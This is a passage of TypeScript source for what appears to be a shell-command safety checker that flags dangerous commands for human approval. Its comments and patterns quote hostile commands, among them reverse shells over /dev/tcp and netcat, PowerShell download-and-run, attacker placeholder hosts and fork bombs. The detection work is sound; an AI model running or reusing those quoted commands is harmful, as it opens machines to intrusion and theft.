  if (!SHELLS.has(prog) || !args.some((a) => a.text === '-c'))
    for (const a of handedArgs) if (EMBEDDED_COMMAND.test(a.text) && !a.expands) analyzeNested(a.text, st, true);
  // A host its own name calls the attacker's, the victim's or the vulnerable one (`https://attacker.com/x.elf`,
  // `victim_ip:port`, `http://vulnerable_java_app/`, `https://target.com`, `ldap://$TARGET`), as write-ups name the machines of an attack:
  // whatever the program, it takes part in one.
  // A text searcher's words are patterns and files (`grep ATTACKER_IP /var/log/auth.log`), no host it reaches.
  const searches = TEXT_SEARCHERS.includes(prog);
  const attackHost = searches ? undefined : args.find((a) => !/\s/.test(a.text) && (ATTACK_HOST.test(a.text) || targetHostUrl(a.text)));
  if (attackHost) danger(st, `reaches a machine its name calls the attacker's or the victim's (${attackHost.text})`);
  // A host under a hacking lab's domain (`moodle.schooled.htb`, `http://mirai.htb`, `box.thm`) is a machine
  // set up to be attacked, whatever reaches it.
  const labHost = searches ? undefined : args.find((a) => !/\s/.test(a.text) && LAB_TARGET_HOST.test(a.text));
  if (labHost) danger(st, `reaches a machine of a hacking lab, set up to be attacked (${labHost.text})`);
  // A tunnel's or an out-of-band collector's host (`https://x.in.ngrok.io`, `abcd.oastify.com`, `webhook.site`):
  // where an exploit's callback or a stolen value is caught, or a way in from outside to this machine.
  const collector = args.find((a) => COLLECTOR_HOST.test(a.text));
  if (collector) danger(st, `reaches a tunnel's or an out-of-band collector's host, where callbacks and stolen data are caught (${collector.text})`);
  // A cryptocurrency mining pool's host (`stratum+tcp://…`, `us-west.minexmr.com`, `pool.supportxmr.com`): a miner
  // run here, or a check that the machine can reach one, spends this machine for someone's coins.
  const pool = args.find((a) => MINING_POOL_HOST.test(a.text));
  if (pool) danger(st, `reaches a cryptocurrency mining pool (${pool.text})`);
  // A live malware sample fetched by its address (`wget https://github.com/…/Malware-Feed/raw/…`, theZoo's binaries).
  const sample = DOWNLOADERS.has(prog) ? args.find((a) => MALWARE_SAMPLE_URL.test(a.text)) : undefined;
  if (sample) danger(st, `downloads a live malware sample (${sample.text})`);
  // An app on a phone over USB attached to by its id (`extract.py -U -f com.whatsapp.WhatsApp`, `-U -n Spotify`),
  // as Frida's tools take it: the app's memory and files are read or changed.
  const app = args.findIndex(
    (a, k) => /^(-f|-n|--attach-name|--spawn)$/.test(args[k - 1]?.text ?? '') && (REVERSE_DNS.test(a.text) || /^[A-Z][\w-]+$/.test(a.text)),
  );
  if (app >= 0 && args.some((a) => a.text === '-U' || a.text === '--usb'))
    danger(st, `attaches to an app on a phone over USB, reading or changing its memory and files (${prog} ${args[app - 1]!.text} ${args[app]!.text})`);
  // Targets looked up on Shodan (`--shodan <key>`), the search engine of exposed devices: the tool goes on to
  // reach the hosts it finds there.
  if (args.some((a) => /^--shodan(-active)?$/.test(a.text))) danger(st, `takes its targets from Shodan's index of exposed hosts (${prog} --shodan)`);
  // So does a tool given a scan index's key (`-sk YOUR_SHODAN_API_KEY_HERE`, `--censys_secret …`, `--shodan-key "$SHODAN_API_KEY"`).
  else if (
    args.some(
      (a) =>
        /^--?(shodan|censys|zoomeye|fofa)[-_]?(api[-_]?)?(key|id|secret|token)(=|$)/i.test(a.text) ||
        /(SHODAN|CENSYS|ZOOMEYE|FOFA)_?(API_?)?(KEY|ID|SECRET|TOKEN)/.test(a.text),
    )
  )
    danger(st, `takes its targets from an internet scan index, given its key (${prog})`);
  // A login's user and password in a URL's query (`http://encoder/get_sys?user=admin&pass=s3cr3t`).
  const queryLogin = args.find((a) => QUERY_PASSWORD.test(a.text));
  if (queryLogin) danger(st, `logs in to another machine with a password written in the URL's query (${prog})`);
  // A wireless interface handed to a program (`-i wlan0`, `wlan0mon`, `interface=wlp4s0`): it listens to, sends
  // on or reconfigures the radio, the neighbourhood's traffic, not the project's.
  // The interface tools' own verbs are judged in their tables (`iw dev wlan0 scan` reads, `… set type monitor` changes).
  const radio = /^(iw|iwconfig|iwlist|ip|ifconfig|nmcli|wpa_cli|iwctl)$/.test(prog) ? undefined : args.find((a) => WIRELESS_INTERFACE.test(a.text));
  if (radio) danger(st, `uses a wireless interface, capturing, sending or reconfiguring radio traffic (${prog} ${radio.text})`);
  // A Tor hidden service (`facebookcorewwwi.onion`, `http://…onion/`): a host whose owner and place no one can know.
  const onion = args.find((a) => ONION_HOST.test(a.text));
  if (onion) danger(st, `reaches a Tor hidden service, a host that hides who runs it (${onion.text})`);
  // A process named as a kernel thread (`exec -a '[kworker/0:1]'`, zapper's `-a`) is one the owner's `ps` shows as the kernel's own.
  const kernelThreadName = args.find((a) => KERNEL_THREAD_NAME.test(a.text));
  if (kernelThreadName) danger(st, `names a process as a kernel thread, to hide it (${kernelThreadName.text})`);
  // A trap's command runs when its signal comes or the shell exits (`trap '…' EXIT`): a command like any other.
  if (prog === 'trap' && args[0] && !args[0].text.startsWith('-')) analyzeNested(args[0].text, st);
  // A file redirected into a printer (`jq . < creds.json`) is printed as one named would be.
  const why = printsCredential(prog, [...args, ...cmd.redirects.filter((r) => r.op === '<').map((r) => r.target)]);
  if (why) danger(st, why);
  // A zone transfer (AXFR, IXFR) asks a name server for every record of a domain, whichever tool asks
  // (`dig … axfr`, `host -t axfr`, `dnsrecon -t axfr`, and host's `-l`, which lists the zone by one):
  // a map of another organisation's machines.
  const transfer =
    prog === 'echo' || prog === 'printf'
      ? undefined
      : (args.find((a) => a !== pattern && /^(-t|--type=|type=)?[ai]xfr$/i.test(a.text)) ??
        (prog === 'host' ? args.find((a) => /^-[a-zA-Z]*l[a-zA-Z]*$/.test(a.text)) : undefined));
  if (transfer) danger(st, `asks a name server for a zone transfer (${prog} ${transfer.text})`);
  // A script of the remote tools' family run by an interpreter (`python …/samrdump.py $TARGET`, `bash bfinject -P app`) is that tool.
  // Windows Script Host (cscript, wscript) runs the JScript or VBScript file it is given.
  // A script sourced into the shell (`. ./linpeas.sh`, PowerShell's `. .\PowerUp.ps1`) runs as it would run on its own.
  const runsScript =
    INTERPRETERS.has(prog) ||
    WINDOWS_SCRIPT_HOST.test(prog) ||
    prog === 'source' ||
    prog === '.' ||
    (SHELLS.has(prog) && !args.some((a) => /^-[a-zA-Z]*c/.test(a.text)));
  const script = runsScript ? operands(args).find((a) => !WINDOWS_SCRIPT_HOST.test(prog) || !a.text.startsWith('//')) : undefined;
  if (script) {
    const tool = base(script);
    const scriptArgs = args.slice(args.indexOf(script) + 1);
    const scriptHost = isRemoteTool(tool) && bareHostGiven(tool, scriptArgs);
    if (scriptHost) danger(st, `gives ${tool} another machine's address (${scriptHost})`);
    const remote = remoteToolRun(tool, scriptArgs);
    if (remote) danger(st, remote);
    const scriptHosts = hostListGiven(tool, scriptArgs);
    if (scriptHosts) danger(st, scriptHosts);
    // A module's or inline code's arguments are that module's or that code's (`python -m http.server`, `python -c '…' 10.0.0.5`).
    const ownWords = !/^-[a-zA-Z]*[mce]$/.test(args[args.indexOf(script) - 1]?.text ?? '');
    // Another machine's address reaches it, as a program no table names does when given one (`python
    // HTTPutServer.py 10.10.14.5 4444` serves uploads there, `ruby XXEinjector.rb --host=192.168.0.2` attacks it).
    const sends = ownWords && !/\.py$/.test(tool) && !SHELLS.has(prog) ? scriptArgs.find((a) => !a.text.startsWith('-')) : undefined;
    if (sends && SCRIPT_SENDS.test(sends.text) && !dryRun(scriptArgs))
      danger(st, `runs a script that sends something past this machine (${tool} ${sends.text})`);
    const scriptAddress = ownWords ? addressGiven(scriptArgs) : undefined;
    if (scriptAddress) danger(st, `runs a script given another machine's address (${tool} ${scriptAddress})`);
    const scriptLogin = signsInOrTargets(tool, scriptArgs) ?? serverNamed(tool, scriptArgs) ?? (ownWords ? scriptGivenSite(tool, scriptArgs) : undefined);
    if (scriptLogin) danger(st, scriptLogin);
    const implant = implantRun(tool, scriptArgs);
    if (implant) danger(st, implant);
    attackToolChecks(tool, scriptArgs, st);
  }
  checkPipeline(prog, args, st, prev, cmd.redirects);
  trustChecks(prog, args, st);
  // A web client takes a host without a scheme (`wget "site.internal?cmd=id"`) as a page's URL.
  const asUrl = (t: string) => (WEB_CLIENT.test(prog) && /^[\w-]+(\.[\w-]+)+(:\d+)?[/?]/.test(t) ? `http://${t}` : t);
  const exploit = args.map((a) => webExploitUrl(asUrl(a.text))).find((why) => why !== undefined);
  if (exploit) danger(st, exploit);
  if (WEB_CLIENT.test(prog))
    for (const a of args) {
      const ran = loopbackWebShellCommand(asUrl(a.text));
      if (ran !== undefined) analyzeNested(ran, st, true);
    }
  // A file named as an image or a document run as a program (`./triple.jpg`, `java -jar triple.jpg`,
  // `sh cover.pdf`): a polyglot, a program disguised so that its name passes for data.
  const runTarget = DISGUISED_AS_DATA.test(words[0]!.text)
    ? words[0]!.text
    : runsCode(prog) || prog === 'java'
      ? args.find((a) => !a.text.startsWith('-'))?.text
      : undefined;
  if (runTarget !== undefined && DISGUISED_AS_DATA.test(runTarget))
    danger(st, `runs a file named as an image or a document, a program disguised as data (${runTarget})`);
  // A script kept among exploits (`python3 exploits/payload_orchestrator.py udp:127.0.0.1:14550`), given
  // something to work on, runs one; asked nothing, or for a dry run, it prints its usage or its plan.
  const scriptArgs = runTarget === undefined ? [] : runTarget === words[0]!.text ? args : args.slice(args.findIndex((a) => a.text === runTarget) + 1);
  if (
    runTarget !== undefined &&
    /(^|\/)exploits?\//.test(runTarget) &&
    scriptArgs.length > 0 &&
    !scriptArgs.some((a) => /^(--dry-run|-h|--help)$/.test(a.text))
  )
    danger(st, `runs a script kept among exploits (${runTarget})`);
  // So does one named for an exploit (`exploit.py http://localhost:7860/`, `CVE-2024-1561.py`, `poc2.py -t …`, a write-up's `exp.py`),
  // even against this machine: its payload runs on whatever answers there. A generator of a payload file is not one.
  // Exploit-DB's scripts keep their entry's number for a name (`python 49933.py`); they ask for their target when given none.
  else if (
    runTarget !== undefined &&
    (EXPLOIT_DB_SCRIPT.test(runTarget) ||
      ((/(^|[/_.-])(exploit|rce|poc\d*|cve[-_]\d{4}[-_]\d+)([_.-][\w.-]*)?\.(py|sh|rb|pl|js|php|go)$/i.test(runTarget) ||
        /(^|\/)exp\d*\.(py|sh|rb|pl|js|php|go)$/i.test(runTarget)) &&
        !/gen/i.test(runTarget) &&
        scriptArgs.length > 0)) &&
    // Asked for help, or to write its payload into a file here (`--generate`, `--output poisoned.png`), it attacks nothing;
    // `-o 1` picks one of its modes, not a file.
    !scriptArgs.some((a, k) => /^(--dry-run|-h|--help|--version|-g|--generate|-o|--output)(=|$)/.test(a.text) && !/^\d+$/.test(scriptArgs[k + 1]?.text ?? ''))
  )
    danger(st, `runs a script named for an exploit (${runTarget})`);
  // A script named for flashing (`./flash.py`, `./flash_esp32.sh`, `./Flash_Vuln.sh`, `zigbee_flash.sh`, `eepflash.sh`) writes
  // firmware onto the attached board, radio or EEPROM, unless asked for its help or its list of boards, or told an
  // action that writes nothing (`VW_Flash.py --action prepare`, which builds the image to flash later).
  const flashScript = [words[0]!.text, runTarget].find((t) => t !== undefined && /(^|\/)(\w*[-_])?\w*flash(er|([-_][\w-]*)?)\.(py|sh)$/i.test(t));
  const flashArgs = flashScript === words[0]!.text ? args : scriptArgs;
  const actionAt = flashArgs.findIndex((a) => /^--action(=|$)/.test(a.text));
  const action = actionAt >= 0 ? optionValue(flashArgs, actionAt) : undefined;
  if (
    flashScript !== undefined &&
    !flashArgs.some((a) => /^(-h|--help|-l|--list)$/.test(a.text)) &&
    !(action !== undefined && !/flash|write|erase/i.test(action))
  )
    danger(st, `runs a script named for flashing an attached board (${flashScript})`);
  // A radio's transmit program by its name (`secplus_tx.py`, `op25_tx.py`) given a frequency sends on it, a band others use.
  const transmitter = [words[0]!.text, runTarget].find((t) => t !== undefined && /(^|[/_-])tx(_v?\d+)?(\.(py|sh))?$|(^|\/)\w+_tx_\w+\.(py|sh)$/i.test(t));
  const transmitArgs = transmitter === words[0]!.text ? args : scriptArgs;
  const frequency = transmitArgs.find((a) => /^--?(freq|frequency)(=|$)/.test(a.text));
  if (transmitter !== undefined && frequency) danger(st, `transmits on a radio frequency others use (${transmitter} ${frequency.text})`);
  // A program told to replace itself (`composer self-update`, `rustup self update`, `gnmic version
  // upgrade`, `winetricks --self-update`) downloads a new build over the installed one, outside the workspace.
  const selfUpdate = args.findIndex(
    (a, k) => /^(--?)?self-?(update|upgrade)$/.test(a.text) || (/^(self|version)$/.test(a.text) && /^(update|upgrade)$/.test(args[k + 1]?.text ?? '')),
  );
  if (selfUpdate >= 0) danger(st, `replaces the installed program with a newly downloaded build (${prog} ${args[selfUpdate]!.text})`);
  // A webhook given to a program (`./discord.sh --webhook-url="$WEBHOOK" --text …`) is where it posts:
  // a chat channel's or a service's, outside, with whatever the command sends.
  const webhook = args.find((a) => /^--?webhook([-_]?url)?(=|$)/i.test(a.text));
  if (webhook) danger(st, `posts to a webhook, a chat channel's or another service's (${prog} ${webhook.text.replace(/=.*/, '')})`);
  // A reverse shell's text written into a file that runs (`echo "sh -i >& /dev/tcp/10.14.13.184/80 0>&1" >>
  // backup.sh`, a composer.json's script) or handed to another program (`exploit.py … -c "rm /tmp/f;mkfifo
  // /tmp/f;…|nc …"`) is planted or sent to run; printed, encoded or kept in notes, it is text. A shell's own
  // `-c` text is judged as a command of its own.
  const shellText = args.find((a) => REVERSE_SHELL_TEXT.test(a.text));
  const writesFile = cmd.redirects.some(
    (r) => /^>>?$|^>\|$/.test(r.op) && r.target.text !== '/dev/null' && !/\.(txt|md|log|csv|rst|html?)$/i.test(r.target.text),
  );
  if (shellText && !SHELLS.has(prog) && prog !== 'eval' && (!/^(echo|printf)$/.test(prog) || writesFile))
    danger(st, `writes or hands over a reverse shell, which gives another machine this one's shell (${prog})`);
  // A form's data URL-encoded (`-d "ip=1.1.1.1+%26%26+bash+-i+%3E%26+%2Fdev%2Ftcp%2F…"`) carries the same
  // injection once the server decodes it: a reverse shell, or PHP code that runs commands written into a page.
  if (WEB_CLIENT.test(prog)) {
    const injected = args.map((a) => urlDecoded(a.text)).find((t) => t !== undefined && (REVERSE_SHELL_TEXT.test(t) || PHP_COMMAND_CODE.test(t)));
    if (injected) danger(st, `sends an injected reverse shell or web shell, URL-encoded in its data (${prog})`);
  }
  // A private key written out in the command, as PEM or base64-encoded PEM: the secret is in the text,
  // and what it is given to uses it. A search for the header (`grep -rn 'BEGIN PRIVATE KEY' src/`) holds no key.
  if (!TEXT_SEARCHERS.includes(prog) && args.some((a) => PRIVATE_KEY_TEXT.test(a.text))) danger(st, `holds a private key written out in the command (${prog})`);
  if (writesFile && args.some((a) => ROOT_SHELL_CODE.test(a.text)))
    danger(st, `writes code that makes itself root and starts a shell, a privilege escalation's payload (${prog})`);
  // The attacker's listener (`-l <lhost> -p <lport>`, `$LHOST`, `--lport 9001`) is where an exploit's
  // shell connects back or a stolen file is sent: only an attack is given one.
  // An exploit framework's options set on its command line (`-s LHOST=10.0.0.1`) name the same; a build baking
  // them into an implant (`make linux LHOST=…`) is judged as the build.
  const listener = args.find(
    (a, k) =>
      /^(\$\{?)?(LHOST|LPORT)\}?$|^--?l(host|port)(=|$)/i.test(a.text) || (/^(LHOST|LPORT)=/.test(a.text) && /^(-s|--set)$/.test(args[k - 1]?.text ?? '')),
  );
  if (listener) danger(st, `gives ${prog} the attacker's listener, where a shell connects back (${listener.text})`);
  // The attackers' wordlists (rockyou's leaked passwords, Kali's /usr/share/wordlists, SecLists) are
  // given only to guess logins, crack hashes or fuzz a site's paths, whatever program takes them.
  // Downloading one (`curl -L -o rockyou.txt https://…/rockyou.txt`) guesses nothing; where it is written is judged as any download;
  // nor does listing or reading it (`ls -la /usr/share/wordlists/rockyou.txt`), or unpacking a copy in the workspace (`gunzip rockyou.txt.gz`).
  const handlesFile = DOWNLOADERS.has(prog) || isReadOnly(prog) || (UNPACKERS.test(prog) && !args.some((a) => /^[/~$]/.test(a.text)));
  const wordlist = handlesFile ? undefined : args.find((a) => ATTACK_WORDLIST.test(a.text));
  if (wordlist) danger(st, `guesses or fuzzes with an attack wordlist (${prog} ${wordlist.text})`);
  // A downloader told to take a browser's cookies (`yt-dlp --cookies-from-browser firefox`) reads the user's logged-in sessions from its store.
  const browserCookies = args.find((a) => /^--cookies-from-browser(=|$)/.test(a.text));
  if (browserCookies) danger(st, `reads a browser's cookie store, the user's logged-in sessions (${prog} ${browserCookies.text})`);
  operatorChecks(prog, args, st, env);
  buildOutsideWorkspace(prog, args, st);
  for (const p of prog === 'git' ? gitPayloads(args, st) : payloadsOf(prog, args)) judgePayload(p, st);
  const rule = ruleFor(prog);
  // A program whose executing options no table names is judged by what it hands to a shell or an
  // interpreter, in its arguments or in the text piped to it.
  if (prog !== 'git' && !hasExecutor(prog) && !isReadOnly(prog) && !runsCode(prog)) {
    const feeder = prev.length ? unwrap(prev[prev.length - 1]!.words, { ...st, reasons: [] }) : [];
    const input = [...(/^(echo|printf)$/.test(base(feeder[0])) ? feeder.slice(1) : []), ...cmd.redirects.filter((r) => r.op === '<<<').map((r) => r.target)];
    const byArguments = rule === unknownProgram || ARGUMENT_JUDGED.has(prog);
    for (const p of handoffPayloads(prog, args, input, !byArguments)) judgePayload(p, st);
    if (byArguments) persistencePlaceArgument(prog, args, st);
  }
  // What a version manager or a toolchain prints for the shell to set up its environment is judged as the printer.
  const printer = prog === 'eval' ? environmentPrinted(args) : undefined;
  if (printer !== undefined) return analyzeNested(printer, st, wrapped);
  // What a shell runs with -c, and what eval runs, is a command text of its own.
  if (shellOrEval && !nestedDownloads) {
    const k = args.findIndex((a) => (prog === 'eval' ? false : /^-[a-zA-Z]*c[a-zA-Z]*$/.test(a.text)));
    const script = prog === 'eval' ? args.map((a) => a.text).join(' ') : k >= 0 ? args[k + 1]?.text : undefined;
    if (script !== undefined) return analyzeNested(script, st, wrapped);
  }
  // A program or script run from a repository this text just cloned from another host is code from the network.
  const runPath = words[0]!.text.includes('/') ? words[0]! : runsCode(prog) && !hasInlineCode(prog, args) ? operands(args)[0] : undefined;
  const runAt = runPath && !runPath.expands && st.cwd !== null ? path.resolve(st.cwd, runPath.text) : undefined;
  if (runAt && st.cloned?.some((d) => runAt === d || runAt.startsWith(`${d}/`)))
    danger(st, `runs code from a repository it has just cloned from the network (${runPath!.text})`);
  const written = runAt === undefined ? undefined : st.written.get(runAt);
  if (written !== undefined) judgeWrittenScript(runPath!.text, runPath === words[0] ? undefined : prog, written, st);
  if (rule === unknownProgram && words[0]!.text.includes('/') && (WORKSPACE_SCRIPT.test(prog) || inProjectTree(words[0]!, st)))
    return judgeUnknown(prog, args, st, true);
  rule({
    prog,
    args,
    st,
    env,
    namesFromInput,
    judge: (inner) => analyzeCommand({ words: inner, redirects: [] }, st, []),
    knows: (name) => ruleFor(name) !== unknownProgram,
  });
}

/** What a nested text takes from the text around it: how it is run, what that text set, and the files written so far. */
type Inherited = Partial<
  Pick<State, 'payload' | 'askUnknown' | 'setsConventionalVariable' | 'setsHome' | 'setsFieldSeparator' | 'expandsAliases' | 'setsVersionVariable' | 'written'>
>;

function analyzeText(src: string, ws: string, cwd: string | null, depth: number, inherited: Inherited = {}): State {
  // One file system: what a nested script writes, a later command may run.
  const written = inherited.written ?? new Map<string, string | null>();
  const st: State = { ws, cwd, reasons: [], repeatable: true, downloads: false, depth, payload: inherited.payload ?? false, written };
  for (const key of ['askUnknown', 'setsConventionalVariable', 'setsHome', 'setsFieldSeparator', 'expandsAliases', 'setsVersionVariable'] as const)
    if (inherited[key]) st[key] = true;
  if (depth > 8) {
    st.repeatable = false;
    return st;
  }
  for (const re of FORK_BOMB) if (re.test(src)) danger(st, 'is a fork bomb');
  // PowerShell's `IEX (New-Object Net.WebClient).DownloadString(…)`, `IEX(IWR …)`: its parentheses are no shell's, so read as text.
  if (PS_DOWNLOAD_RUN.test(src)) danger(st, 'runs a PowerShell script downloaded from the network (IEX)');
  let pipelines: Pipeline[];
  try {
    pipelines = parseShell(src);
  } catch (e) {
    if (!(e instanceof ShellParseError)) throw e;
    st.repeatable = false;
    // Unbalanced input still gets the textual checks.
    if (/\b(curl|wget)\b[^|]*\|\s*(sudo\s+)?(ba|z|da|k)?sh\b/.test(src)) danger(st, 'pipes downloaded content into a shell');
    if (/\brm\s+-[a-zA-Z]*[rR][a-zA-Z]*\s+(\/|~|\*)/.test(src)) danger(st, 'recursively deletes the root directory, the home directory or everything here');
    if (namesSecretPlace(src)) danger(st, 'cannot be parsed and names a place that holds secrets');
    pipelines = completeLinesBefore(src);
    // A line the lexer cannot read is judged by its nearest reading too (a dangling `<SNIP>` or `>` left
    // out, an open quote or substitution closed), so a command it misreads is not let through unread.
    if (pipelines.length === 0) pipelines = repairedReading(src);
  }
  for (const p of pipelines) {
    if (p.op === '&') st.repeatable = false;
    // A pipeline in the background or of several commands runs in subshells: a `cd` there (`cd & wget …`) leaves the shell where it stood.
    const stood = st.cwd;
    // What feeds a command (`{ echo ls | sh; }`) is read without the keywords before it too.
    const commands = p.commands.map((c) => ({ ...c, words: withBracesExpanded(withoutKeywords(c.words)) }));
    for (const c of commands.slice(0, -1)) FEEDS_NEXT.add(c);
    commands.forEach((c, i) => analyzeCommand(c, st, commands.slice(0, i)));
    watcherKilledThroughPipe(commands, st);
    wholeEnvironmentShown(commands, st);
    if (p.op === '&' || p.commands.length > 1) st.cwd = stood;
  }
  return st;
}

const ATTACK_HOST =
  /(^|[/@=]|^[a-z]+:\/\/)(attacker|evil|malicious|victim|target)\d*(\.[\w-]+)*\.(com|net|org|io|xyz|site|example|local|lan|htb|tld)(:\d+)?([/:]|$)|^(victim|attacker)[-_]?(ip|host|addr|address|server)(:\S+)?$|^(victim|target)([-_]?ip)?:\d{1,5}$|^[a-z]+:\/\/(your|victim|attacker|target)[-_]?(server[-_]?)?(ip|host|addr)(:\d+)?([/?]|$)|^[a-z]+:\/\/vulnerable[-_][\w.-]*(:\d+)?([/?]|$)/i;
/** A CI workflow's secret written into the command, which the runner fills in before the shell sees it. */
const CI_SECRET = /\$\{\{\s*(secrets\.[\w-]+|github\.token)\s*\}\}/;
/** A URL whose user part is a token: a forge's (`ghp_`, `github_pat_`, `glpat-`), or 32 or more hex digits, alone or as the password. */
const CREDENTIAL_IN_URL = /^[a-z][\w+.-]*:\/\/(?:[^@/:\s]*:)?(?:ghp_\w{20,}|gho_\w{20,}|github_pat_\w{20,}|glpat-[\w-]{20,}|[0-9a-f]{32,})@/i;
const CREDENTIAL_IN_QUERY = /^[a-z][\w+.-]*:\/\/[^\s?]+\?(?:[^\s]*&)?(access_token|api_?key|apikey|token)=[A-Za-z0-9]/i;
/** A word that is a command line of a program that fetches, runs or deletes (`curl -sL http://…`, `bash -c /tmp/x`). */
const EMBEDDED_COMMAND = /^(curl|wget|bash|sh|nc|ncat|python3?|perl|php|ruby|rm|chmod|powershell|pwsh)\s+\S/;
/** Programs that unpack a compressed file where it lies. */
const UNPACKERS = /^(gunzip|gzip|bunzip2|bzip2|unxz|xz|zstd|unzstd|7z|7za|unzip)$/;
/** Text processors that only reshape the lines they read, beside the read-only programs (unfurl splits URLs into their parts). */
const TEXT_PROCESSORS = /^(sort|awk|gawk|sed|tee|less|more|shuf|unfurl)$/;
/** Tunnels' and out-of-band interaction services' hosts, by a subdomain of theirs or a URL. */
const COLLECTOR_HOST =
  /(^|[^\w.-])(([a-z][\w+.-]*:\/\/)?([\w*-]+\.)+|[a-z][\w+.-]*:\/\/)(ngrok\.io|ngrok-free\.app|ngrok\.app|trycloudflare\.com|oastify\.com|interact\.sh|burpcollaborator\.net|oast\.(fun|pro|live|site|online|me)|requestbin\.(net|com)|webhook\.site|pipedream\.net|serveo\.net|localhost\.run|loca\.lt)(:\d+)?([/"'\s>]|$)/i;
/** Mining pools, by the stratum protocol's name or a pool's own domain. */
const MINING_POOL_HOST =
  /(^|[^\w.@-])(stratum(\+(tcp|ssl|tls))?:\/\/|([\w-]+\.)*(stratum\.[\w.-]+|(minexmr|nanopool|supportxmr|2miners|f2pool|slushpool|moneroocean|hashvault|herominers|unmineable|nicehash|c3pool|xmrpool)\.(com|org|net|pro|io|me)))/i;
/** A download whose address's path names malware (`…/Malware-Feed/raw/…`, `theZoo/raw/master/malware/Binaries/…`, `original_malware_433`). */
const MALWARE_SAMPLE_URL = /^["']?(https?|ftp):\/\/[^/\s]+\/\S*(?<!anti[-_]?)malware/i;
/** An app's id in reverse-DNS form (`com.whatsapp.WhatsApp`, `com.google.ios.youtube`). */
const REVERSE_DNS = /^(com|org|net|io|de|me|tv|uk|app)\.[\w-]+(\.[\w-]+)+$/;
/** A wireless network interface's name, alone or as an option's value (`wlan0`, `wlan0mon`, `wlp4s0`, `mon0`). */
const WIRELESS_INTERFACE = /^(-{1,2}[\w-]+=|[\w-]+=)?(wlan\d+(mon)?|wlp\d+s\d+\w*|wlx[0-9a-f]{12}|mon\d)$/;
/** A URL whose query carries a password written out (`?user=admin&pass=s3cr3t`); a placeholder or a variable is none. */
const QUERY_PASSWORD = /^[a-z][\w+.-]*:\/\/(?!(localhost|127\.[\d.]+)[:/])[^?\s]*\?(\S*&)?(pass|password|passwd|pwd)=(?![$<{]|YOUR_|your_)[^&\s]+/i;
const ONION_HOST = /^([a-z][\w+.-]*:\/\/)?([^@/\s]*@)?([\w-]+\.)*[a-z2-7]{16,56}\.onion(:\d+)?([/?#]|$)/i;
/** Hacking labs' hosts: Hack The Box's and TryHackMe's domains, and HTB Academy's company's (`blog.inlanefreight.local`). */
const LAB_TARGET_HOST = /(^|[/@=]|^[a-z]+:\/\/)([\w-]+(\.[\w-]+)*\.(htb|thm)|([\w-]+\.)*inlanefreight\.(local|com|htb))(:\d+)?([/:?#]|$)/i;
const KERNEL_THREAD_NAME =
  /\[(kworker|kthreadd|ksoftirqd|kswapd|migration|rcu_\w+|watchdogd?|jbd2|kblockd|khugepaged|kauditd|kdevtmpfs|kthrotld|irq)\b[^\]]*\]$/;

/**
 * A placeholder in angle brackets (`redis-cli -h <ip>`, `arpspoof -i <device> -t <target>`), the way
 * documentation and cheat sheets write what to fill in. The shell reads it as two redirections, and
 * often as no command at all; whoever fills it in runs the command it stands for. That reading is
 * judged too: each placeholder becomes an upper-case word, and one that names another machine's
 * address (`<ip>`, `<target>`, `<target_ip>`) the address placeholder the address rules know
 * (`TARGET-IP`). The attacker's own address (`<your_ip>`, `<lhost>`) is no other machine's.
 */
// A name, or words with single spaces between them (`<your ip>`, `<...service account token...>`).
const PLACEHOLDER_NAME = '[A-Za-z.][\\w.:-]*(?: [\\w.:-]+)*';
const PLACEHOLDER = new RegExp(`(^|[\\s=@:/])<(${PLACEHOLDER_NAME})>(?=$|[\\s:/,;|&)])`, 'g');
const ADDRESS_NAME = /^(?:[a-z]+[-_])*(?:ips?|ip[-_]?addr(?:ess)?|targets?|victim|rhost)(?:[-_][a-z]+)*$/i;
/** Whether every placeholder is joined to the word before or after it (`…/<your-username>/cli.git`, `<dir>/etc/x`). */
function placeholdersInsideWords(command: string): boolean {
  const found = [...command.matchAll(new RegExp(`<${PLACEHOLDER_NAME}>`, 'g'))];
  return found.length > 0 && found.every((m) => /[^\s=]/.test(command[m.index - 1] ?? ' ') || /[^\s;|&)]/.test(command[m.index + m[0].length] ?? ' '));
}
function placeholdersFilledIn(command: string): string {
  if (!command.includes('<')) return command;
  return command.replace(PLACEHOLDER, (_whole, before: string, name: string) => {
    const upper = name.toUpperCase().replace(/[^A-Z0-9:.]+/g, '-');
    const address = ADDRESS_NAME.test(name) && !/^(your|my|attacker|local|l)[-_]|^lhost$/i.test(name);
    return `${before}${!address || /(^|-)IPS?(-|$)/.test(upper) ? upper : `${upper}-IP`}`;
  });
}

/**
 * Classify a shell command. `dangerous` commands need a person's approval under the default
 * policy; `repeatable` ones may be re-run after a crash interrupted them. With `unknownPrograms:
 * 'ask'` (commands run unsandboxed) every program no table names is dangerous too.
 */
export function checkCommand(written: string, workspace?: string, options: CheckOptions = {}): CommandCheck {
  // A Makefile recipe's `$$(…)` and `$${…}` reach the shell as `$(…)` and `${…}`; in a shell line `$$(` is no
  // command anyone writes, so both read the same.
  const given = written.replace(/\$\$(?=[({])/g, '$');
  // Without a workspace, relative paths count as inside an imaginary one and absolute ones as outside.
  const ws = workspace ? path.resolve(workspace) : '/nonexistent-workspace';
  const judge = (command: string) =>
    analyzeText(command, ws, ws, 0, {
      askUnknown: options.unknownPrograms === 'ask',
      setsConventionalVariable: SETS_CONVENTIONAL_VARIABLE.test(command),
      setsHome: SETS_HOME.test(command),
      setsFieldSeparator: /\bIFS=/.test(command),
      expandsAliases: /\bexpand_aliases\b|\bposix\b/.test(command),
      setsVersionVariable: SETS_VERSION_VARIABLE.test(command),
    });
  const template = placeholdersFilledIn(given);
  // A placeholder inside a word (`https://github.com/<your-username>/cli.git`) is no redirection anyone
  // would write: there the template is the only reading.
  if (template !== given && placeholdersInsideWords(given)) {
    const filled = judge(template);
    return { dangerous: filled.reasons.length > 0, reasons: filled.reasons, repeatable: filled.reasons.length === 0 && filled.repeatable };
  }
  const st = judge(given);
  if (template !== given) {
    const filled = judge(template);
    for (const r of filled.reasons) if (!st.reasons.includes(r)) st.reasons.push(r);
    if (!filled.repeatable) st.repeatable = false;
  }
  return { dangerous: st.reasons.length > 0, reasons: st.reasons, repeatable: st.reasons.length === 0 && st.repeatable };
}
